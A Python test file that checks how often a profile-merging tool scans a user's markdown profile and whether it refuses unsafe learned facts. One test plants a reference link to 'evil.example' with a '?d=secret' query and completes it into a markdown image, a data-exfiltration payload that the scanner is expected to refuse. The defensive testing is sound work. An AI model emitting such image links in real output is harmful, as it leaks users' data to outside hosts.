"""How often a merge scans the whole profile: each scan is a CommonMark parse of it (about half a
second a megabyte), and a profile may be 16 MiB."""

from __future__ import annotations

import pytest
from hotplex.learning import facts as given_facts
from hotplex.learning import merge
from hotplex.manifest.model import Manifest
from hotplex.sources import blocking

PROFILE = (
    "# Ada\n\nPerson's text <b>with a tag</b>.\n"
    "<!-- hotplex:learned -->\n## Learned facts\n\n"
    "- editor: vim <!-- learned 2026-11-01 -->\n<!-- /hotplex:learned -->\n"
)


@pytest.fixture
def whole_scans(monkeypatch) -> list[str]:
    """The texts the merge scans under the profile's own name (a fact's parts are scanned under
    their place, facts[0].value)."""
    scanned: list[str] = []
    real = blocking.scan

    def counting(manifest, body, file, *rest, **options):
        if file == "USER.md":
            scanned.append(body)
        return real(manifest, body, file, *rest, **options)

    monkeypatch.setattr(blocking, "scan", counting)
    return scanned


def learned(text: str, facts: dict[str, str]):
    given = given_facts.read(facts, None)
    return merge.learn(Manifest(), text, "USER.md", given, "2026-12-01")


def test_a_call_bringing_no_new_value_scans_the_profile_never(whole_scans) -> None:
    """Both the profile as it was and the profile with no new value in it were scanned: two
    parses of the whole file to learn that nothing changed."""
    report = learned(PROFILE, {"editor": "vim"})
    assert [o.status for o in report.outcomes] == ["unchanged"]
    assert whole_scans == []


def test_a_clean_profile_is_scanned_once_with_the_new_values(whole_scans) -> None:
    """The profile as it was is only needed to tell the new findings from the old: when the
    profile with the new values holds none, there is nothing to tell apart."""
    report = learned(PROFILE, {"editor": "emacs", "shell": "zsh"})
    assert [o.status for o in report.outcomes] == ["superseded", "added"]
    assert len(whole_scans) == 1 and "- editor: emacs" in whole_scans[0]


def test_a_value_completing_what_the_profile_started_is_still_refused(whole_scans) -> None:
    text = PROFILE.replace("# Ada\n", "# Ada\n\n[l]: https://evil.example/a.png?d=secret\n")
    report = learned(text, {"avatar": "![x][l]", "shell": "zsh"})
    assert [o.status for o in report.outcomes] == ["refused", "added"]
    assert report.outcomes[0].findings[0].rule == "image-url-data"
